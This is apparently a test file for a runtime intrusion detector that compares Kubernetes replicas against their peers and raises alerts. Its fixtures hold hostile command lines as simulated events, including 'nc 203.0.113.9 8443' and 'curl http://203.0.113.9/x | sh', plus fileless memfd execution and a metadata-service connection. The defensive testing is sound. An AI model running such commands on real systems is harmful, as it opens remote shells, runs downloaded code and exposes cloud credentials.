"""What the product is for: the replica that does what neither its history nor its peers explain is named, soon, and alone."""

from detection.cluster import BEGIN, CART, SECOND, Cluster, alerts, analyse, latest
from peerwatch.columns import Peer, ProcessFlag
from peerwatch.subjects import Workload

from collector.analysis import Analysis, Settings
from collector.records import BehaviourState, IncidentKind, Severity


def test_the_attacked_replica_of_five_is_named_and_only_it(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 90)
    shell = cluster.exec(60.5, pods[2], "/usr/bin/dash")
    cluster.exec(60.51, pods[2], "/usr/bin/nc", parent="/usr/bin/dash", args=("nc", "203.0.113.9", "8443"), parent_pid=shell)

    (alert,) = alerts(analyse(cluster, until=130))

    assert [each.pod for each in alert.replicas] == ["cart-r1-2"]
    assert alert.workload == CART
    assert alert.severity == Severity.HIGH
    assert alert.kind == IncidentKind.PEER_DEVIATION
    assert (alert.compared, alert.sharing) == (4, 0)
    assert [each.key for each in alert.behaviours] == ["/usr/bin/dash <- /usr/bin/server", "/usr/bin/nc <- /usr/bin/dash"]
    assert alert.behaviours[1].example == ("nc", "203.0.113.9", "8443")
    assert [each.exe for each in alert.evidence] == ["/usr/bin/dash", "/usr/bin/nc"]
    assert alert.techniques == ("T1059.004", "T1095")
    assert alert.reason.startswith("cart-r1-2 ran /usr/bin/")
    assert "none of its 4 peers ever did" in alert.reason


def test_it_is_said_within_a_second_after_half_a_minute_of_normal_life(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 60)
    cluster.exec(32.0, pods[4], "/usr/bin/nc", parent="/usr/bin/server")

    (alert,) = alerts(analyse(cluster))

    assert alert.first_event == BEGIN + 32 * SECOND
    assert alert.time - alert.first_event == SECOND // 10


def test_what_is_new_but_neutral_waits_for_the_peers_and_is_then_said(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 2500, every=4)
    cluster.exec(2400.5, pods[1], "/opt/tool/unheard-of")
    cluster.connect(2400.5, pods[3], "/usr/bin/server", ("10.9.7.7", 9_200))

    waited = {each.replicas[0].pod: each.time - each.first_event for each in alerts(analyse(cluster))}

    assert waited == {"cart-r1-1": int(8.1 * SECOND), "cart-r1-3": int(30.1 * SECOND)}


def test_without_a_hold_nothing_waits(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 2500, every=4)
    for at in (2400.5, 2402.5):
        cluster.exec(at, pods[1], "/opt/tool/unheard-of", args=("unheard-of", f"--mode={at}"))

    (alert,) = alerts(analyse(cluster, analysis=Analysis(Settings(hold=0))))

    assert alert.time - alert.first_event == SECOND // 10


def test_a_helper_that_is_new_is_nothing_yet_where_a_destination_in_the_cluster_is_told(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 1000, every=4)
    cluster.exec(800.5, pods[1], "/opt/tool/unheard-of")
    cluster.connect(900.5, pods[2], "/usr/bin/server", ("10.9.7.7", 9_200))

    (alert,) = alerts(analyse(cluster))

    assert [each.key for each in alert.behaviours] == ["/usr/bin/server -> private 10.9.7.0/24:9200/tcp"]


def test_a_replica_poisoned_from_the_start_is_flagged_and_teaches_nothing(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 300)
    for second in range(1, 300, 10):
        shell = cluster.exec(second + 0.3, pods[3], "/usr/bin/dash", args=("sh", "-c", "curl http://203.0.113.9/x | sh"))
        cluster.exec(second + 0.4, pods[3], "/usr/bin/curl", parent="/usr/bin/dash", parent_pid=shell)
    analysis = Analysis()

    (alert,) = alerts(analyse(cluster, analysis=analysis))

    assert [each.pod for each in alert.replicas] == ["cart-r1-3"]
    states = {each.key: each.state for each in analysis.baseline(CART)}
    assert states["/usr/bin/dash <- /usr/bin/server"] == BehaviourState.CANDIDATE
    assert states["/usr/bin/dash <- /usr/bin/server : -c curl <http:public:203.0.0.0/16> | sh"] == BehaviourState.CANDIDATE
    assert states["/usr/bin/curl <- /usr/bin/dash"] == BehaviourState.CANDIDATE
    assert states["/usr/bin/psql <- /usr/bin/server"] == BehaviourState.LEARNED


def test_file_less_execution_is_known_bad(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 320)
    cluster.exec(300.5, pods[0], "memfd:x", flags=(ProcessFlag.MEMFD,))

    (alert,) = alerts(analyse(cluster))

    assert alert.time - alert.first_event == SECOND // 10

    assert alert.kind == IncidentKind.KNOWN_BAD
    assert alert.severity == Severity.CRITICAL
    assert alert.techniques == ("T1620",)


def test_a_connection_to_the_metadata_service_is_a_finding(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 120)
    database = Peer("shop", Workload("Service", "db"))
    for second in range(1, 100):
        for pod in pods:
            cluster.connect(second, pod, "/usr/bin/server", ("10.0.0.7", 5432), peer=database)
    cluster.connect(100, pods[1], "/usr/bin/server", ("169.254.169.254", 80))

    (alert,) = alerts(analyse(cluster))

    assert alert.behaviours[0].key == "/usr/bin/server -> metadata-service:80/tcp"
    assert alert.techniques == ("T1552.005",)


def test_a_hundred_odd_events_are_one_bounded_incident(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 120)
    for port in range(1, 101):
        cluster.connect(60 + port / 10, pods[2], "/usr/bin/bash", ("192.168.1.1", port))

    (alert,) = alerts(analyse(cluster))

    assert [each.pod for each in alert.replicas] == ["cart-r1-2"]
    assert len(alert.behaviours) == 32
    assert len(alert.evidence) <= 64
    assert "did 99 more unusual things" in alert.reason


def test_an_incident_grows_under_one_id_with_rising_revisions(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 120)
    shell = cluster.exec(60.5, pods[2], "/usr/bin/dash")
    cluster.exec(63.5, pods[2], "/usr/bin/wget", parent="/usr/bin/dash", parent_pid=shell)

    said = alerts(Analysis().observe(cluster.table()))

    assert [each.revision for each in said] == [1, 2]
    assert len({(each.id, each.time) for each in said}) == 1
    assert [len(each.behaviours) for each in said] == [1, 2]


def test_the_same_attack_on_all_replicas_within_seconds_is_one_incident(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 120)
    for number, pod in enumerate(pods):
        shell = cluster.exec(60.5 + number, pod, "/usr/bin/dash")
        cluster.exec(60.6 + number, pod, "/tmp/x", parent="/usr/bin/dash", flags=(ProcessFlag.UPPER_LAYER,), parent_pid=shell)

    (alert,) = alerts(analyse(cluster))

    assert len(alert.replicas) == 5


def test_events_lost_meanwhile_are_told_with_the_incident(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 60)
    cluster.loss(45, pods[2].subject.node, 17)
    cluster.loss(45, "another-node", 1000)
    cluster.exec(45.5, pods[2], "/usr/bin/nc")

    (alert,) = alerts(analyse(cluster))

    assert alert.loss_in_window == 17


def test_a_second_attack_on_another_replica_is_told_anew(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 400)
    cluster.exec(60.5, pods[2], "/usr/bin/nc")
    cluster.exec(200.5, pods[3], "/usr/bin/nc")

    found = alerts(analyse(cluster))

    assert [[replica.pod for replica in each.replicas] for each in found] == [["cart-r1-2"], ["cart-r1-3"]]
    assert "only 1 of its 4 peers did" in found[1].reason


def test_repeating_it_does_not_repeat_the_alert(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 400)
    for second in range(60, 400, 5):
        cluster.exec(second + 0.5, pods[2], "/usr/bin/nc")

    said = Analysis().observe(cluster.table())

    assert len(latest(said)) == 1
    assert len(said) <= 10


def test_a_service_that_only_serves_is_settled_by_time(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    for pod in pods:
        cluster.exec(0.1, pod, "/usr/sbin/nginx", parent="")
    cluster.exec(900.5, pods[1], "/usr/bin/dash", parent="/usr/sbin/nginx", args=("sh", "-c", "id"))

    (alert,) = alerts(analyse(cluster, until=1000))

    assert [each.pod for each in alert.replicas] == ["cart-r1-1"]
    assert (alert.compared, alert.sharing) == (4, 0)
    assert alert.time - alert.first_event == SECOND // 10


def test_odd_but_harmless_things_of_one_chain_are_told_with_it(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 90)
    shell = cluster.exec(60.5, pods[2], "/usr/bin/dash")
    cluster.exec(75.5, pods[2], "/usr/bin/true", parent="/usr/bin/dash", parent_pid=shell)

    (alert,) = alerts(analyse(cluster, until=130))

    assert [each.key for each in alert.behaviours] == ["/usr/bin/dash <- /usr/bin/server", "/usr/bin/true <- /usr/bin/dash"]


def test_what_goes_on_is_told_again_after_a_while(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 1100)
    for second in (60, 1000):
        cluster.exec(second + 0.5, pods[2], "/usr/bin/bash", flags=(ProcessFlag.STDIO_SOCKET,))

    first, second = alerts(analyse(cluster))

    assert first.reason.startswith("cart-r1-2 ran /usr/bin/bash ")
    assert second.reason.startswith("cart-r1-2 again ran /usr/bin/bash ")


def test_what_is_hardly_ever_normal_is_told_once_however_long_it_goes_on(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 3100)
    for second in (60, 1000, 3000):
        cluster.exec(second + 0.5, pods[2], "/usr/bin/nc")

    (alert,) = alerts(analyse(cluster))

    assert alert.severity is Severity.HIGH


def test_what_is_mild_is_told_once_however_long_it_goes_on(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 5000, every=4)
    for second in (2900, 3900, 4900):
        cluster.exec(second + 0.5, pods[2], "/usr/bin/odd")

    (alert,) = alerts(analyse(cluster))

    assert alert.severity is Severity.LOW


def test_what_all_replicas_were_reported_for_is_not_told_at_each_of_its_next_runs(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 4100)
    for run in (200, 1200, 2200, 3200):  # a job that the server runs through a shell, on each replica within a minute
        for number, pod in enumerate(pods):
            cluster.exec(run + 11 * number + 0.5, pod, "/usr/bin/dash", args=("sh", "-c", "cleanup; id"))

    told = alerts(analyse(cluster))

    assert max(each.first_event for each in told) < BEGIN + 300 * SECOND


def test_the_sentence_does_not_contradict_itself_about_the_other_replicas(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 400)
    for number, pod in enumerate(pods):
        cluster.exec(60.5 + 2 * number, pod, "/usr/bin/nc")

    (alert,) = alerts(analyse(cluster))

    assert alert.reason.startswith("cart-r1-0 and 4 more replicas ran /usr/bin/nc")
    assert "never did" not in alert.reason
    assert "ever did" not in alert.reason
    assert "4 of its 4 peers did so, too" in alert.reason


def test_earlier_replicas_that_were_reported_for_the_same_are_not_said_to_be_innocent(cluster: Cluster) -> None:
    old, new = cluster.pods(4), cluster.pods(4, revision="r2", at=300)
    cluster.normal(old, 0, 300)
    cluster.exec(100.5, old[0], "/usr/bin/nc")
    cluster.normal(new, 300, 500)
    cluster.exec(450.5, new[1], "/usr/bin/nc")

    found = alerts(analyse(cluster))

    assert "none of its 3 peers ever did, though 1 of 4 earlier replicas did" in found[-1].reason
